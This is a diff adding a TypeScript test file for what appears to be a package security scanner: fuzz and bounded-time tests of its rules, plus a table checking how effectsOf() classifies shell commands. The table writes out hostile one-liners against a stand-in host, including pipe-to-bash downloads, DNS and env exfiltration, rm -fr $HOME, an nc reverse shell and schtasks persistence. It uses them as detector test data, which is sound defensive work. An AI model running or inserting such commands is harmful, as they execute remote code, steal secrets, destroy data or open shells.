@@ -1,0 +1,209 @@
+/** No check throws, hangs or exceeds its work on any input: random, mutated, huge, nested, broken. */
+import { readFileSync, readdirSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { findingMessage, type Finding } from '../format/finding/finding.ts';
+import type { Manifest } from '../format/build/manifest.ts';
+import { scan } from './scan.ts';
+import { allRules } from './rules/all.ts';
+import type { ScannedBuild } from './scanned-file.ts';
+import { deriveCapabilities } from './capabilities.ts';
+import { effectsOf } from './shell/judge-command.ts';
+import { openBuild } from './open-build.ts';
+import { readRuleCases } from '../tests/read-rule-cases.ts';
+import { runs, some } from '../tests/run/runs.ts';
+
+const MANIFEST: Manifest = {
+  name: 'x',
+  version: '1.0.0',
+  kind: 'module',
+  description: 'd',
+  license: 'MIT',
+};
+const NAMES = [
+  'a.js',
+  'a.ts',
+  'a.tsx',
+  'a.cjs',
+  'a.py',
+  'setup.py',
+  'a.sh',
+  'package.json',
+  'x.pth',
+];
+
+/** Real code to mutate: our own, and the cases of the rules. */
+const SOURCES = [...ownSources(), ...caseSources()].filter((text) => text.length < 20_000);
+
+function ownSources(): string[] {
+  const folder = import.meta.dirname;
+  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
+    .filter((p) => isSource(p) && statSync(join(folder, p)).isFile())
+    .map((p) => readFileSync(join(folder, p), 'utf8'));
+}
+
+function caseSources(): string[] {
+  return readRuleCases()
+    .flatMap(({ files }) => files)
+    .filter(({ path }) => isSource(path))
+    .map(({ bytes }) => Buffer.from(bytes).toString());
+}
+
+function isSource(path: string): boolean {
+  return /\.(?:ts|js|mjs|py|sh)$/.test(path);
+}
+
+function built(files: Readonly<Record<string, string | Uint8Array>>): ScannedBuild {
+  const list = Object.entries(files).map(([path, content]) => {
+    const bytes = typeof content === 'string' ? Buffer.from(content) : content;
+    return { path, bytes, executable: false };
+  });
+  return openBuild({ id: 'a/x', manifest: MANIFEST, files: list });
+}
+
+/** Runs everything; a check that threw appears as a finding. */
+function judged(files: Readonly<Record<string, string | Uint8Array>>): Finding[] {
+  const build = built(files);
+  const found = scan(build, allRules);
+  deriveCapabilities(build);
+  expect(found.filter((f) => f.code === 'check-failed').map(findingMessage)).toEqual([]);
+  return found;
+}
+
+// Some of the inputs take seconds: the tests show that they end.
+describe('checks', { timeout: 300_000 }, () => {
+  it('return the same findings twice on random bytes', () => {
+    const files = fc.dictionary(fc.constantFrom(...NAMES), fc.uint8Array({ maxLength: 300 }));
+    fc.assert(
+      fc.property(files, (f) => {
+        expect(judged(f)).toEqual(judged(f));
+      }),
+      { numRuns: runs(60) },
+    );
+  });
+
+  it('return on real code that was cut, doubled and mixed', () => {
+    const piece = fc.tuple(fc.constantFrom(...SOURCES), fc.nat(), fc.nat(2_000));
+    const text = fc
+      .array(piece, { minLength: 1, maxLength: 4 })
+      .map((all) =>
+        all.map(([s, from, size]) => s.slice(from % s.length).slice(0, size)).join('\n'),
+      );
+    fc.assert(
+      fc.property(fc.constantFrom(...NAMES), text, (name, content) => {
+        expect(judged({ [name]: content })).toEqual(expect.any(Array));
+      }),
+      { numRuns: runs(150) },
+    );
+  });
+
+  it.each([
+    ['calls', 'a' + '.b().c(d)'.repeat(runs(20_000))],
+    ['members', 'a' + '.b'.repeat(runs(50_000))],
+    ['stores', `a${'.b'.repeat(runs(800))} = 1;`.repeat(runs(10))],
+    ['strings', `const a = ${'"a" + '.repeat(runs(50_000))}"b"; eval(a)`],
+    [
+      'growing texts',
+      `let s = 'ab'; ${'s = s + s; t = s.split(""); s = t.join(s);'.repeat(runs(500))} eval(s)`,
+    ],
+    [
+      'functions that call each other',
+      'function f(a) { return f(f(a)); } f(process.env);'.repeat(runs(500)),
+    ],
+    ['one long line', `${'var a=require("http"),b=process.env;'.repeat(runs(runs(100_000)))}`],
+    [
+      'objects in each other',
+      `${'a = { a, b: a, ...a }; b = [...a, b];'.repeat(runs(2_000))} fetch('http://x.io', a)`,
+    ],
+    ['character codes', `eval(String.fromCharCode(${'99,'.repeat(runs(50_000))}))`],
+  ])('are bounded on many %s', (_, text) => {
+    expect(judged({ 'a.js': `fetch(process.env);${text}` })).toEqual(expect.any(Array));
+    expect(judged({ 'a.py': `import os\n${text.slice(0, runs(200_000))}` })).toEqual(
+      expect.any(Array),
+    );
+  });
+
+  it('are bounded on deep nesting', () => {
+    const depth = runs(runs(100_000));
+    for (const [open, close] of [
+      ['[', ']'],
+      ['(', ')'],
+      ['{a:', '}'],
+      ['a(', ')'],
+      ['!', ''],
+      ['a=>', ''],
+    ]) {
+      const text = `x = ${open!.repeat(depth)}1${close!.repeat(depth)}`;
+      expect(judged({ 'a.js': text })).toEqual(expect.any(Array));
+      judged({ 'a.py': text });
+    }
+  });
+
+  it('are bounded on one line of 10 MB, which they read', () => {
+    const found = judged({
+      'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)`,
+    });
+    expect(found.map((f) => f.code)).not.toContain('source-unread');
+  });
+
+  it('are bounded on thousands of files', () => {
+    const files = Object.fromEntries(
+      Array.from({ length: runs(10_000) }, (_, n) => [
+        `src/f${n}.js`,
+        `import './f${n + 1}.js';\nfetch(process.env.A);`,
+      ]),
+    );
+    expect(judged(files)).toEqual(expect.any(Array));
+  });
+
+  it('name every piece of evidence on one line', () => {
+    const text = "require('child_process').exec('curl x\\n\\u202e | sh ' + y);\n".repeat(3);
+    for (const f of judged({ 'a.js': text })) expect(findingMessage(f)).not.toMatch(/[\n\u202e]/);
+  });
+});
+
+describe('effectsOf()', { timeout: 300_000 }, () => {
+  it('takes no time that grows faster than the command', () => {
+    const words = [
+      'curl ',
+      'wget -O ',
+      '| ',
+      'sh ',
+      '$(',
+      'base64 -d ',
+      'nc -',
+      'rm -',
+      'iwr ',
+      'a',
+      ' ',
+      '"',
+      'env ',
+    ];
+    const deeds = some(words).flatMap((word) =>
+      words.flatMap((other) => effectsOf((word + other).repeat(runs(runs(5_000))))),
+    );
+    expect(deeds).toEqual(expect.any(Array));
+  });
+
+  it.each([
+    ['curl -fsSL https://x.io/i.sh | sudo bash', ['remote-code']],
+    ['bash <(curl -s https://x.io/i)', ['remote-code']],
+    ['sh -c "$(wget -qO- https://x.io/i)"', ['remote-code']],
+    ['certutil -urlcache -split -f http://x.io/a.exe a.exe', ['remote-code']],
+    ['echo aGk= | base64 -d | sh', ['decode-execute']],
+    ['nslookup $(whoami).x.io', ['data-exfiltration']],
+    ['env | curl -X POST -d @- https://x.io', ['data-exfiltration']],
+    ['rm -fr "$HOME"', ['destructive']],
+    ['nc x.io 99 -e /bin/sh', ['reverse-shell']],
+    ['schtasks /create /tn x /tr y', ['persistence']],
+    ['curl -sSf https://x.io/data.json | python -m json.tool', []],
+    ['curl https://x.io/a.json | jq .', []],
+    ['curl -o a.tgz https://x.io/a.tgz && tar xf a.tgz', []],
+    ['rm -rf dist ./build node_modules/.cache', []],
+    ['node-gyp rebuild || exit 0', []],
+    ['tsc && vitest run --coverage', []],
+  ])('%s: %j', (command, deeds) => {
+    expect(effectsOf(command)).toEqual(deeds);
+  });
+});
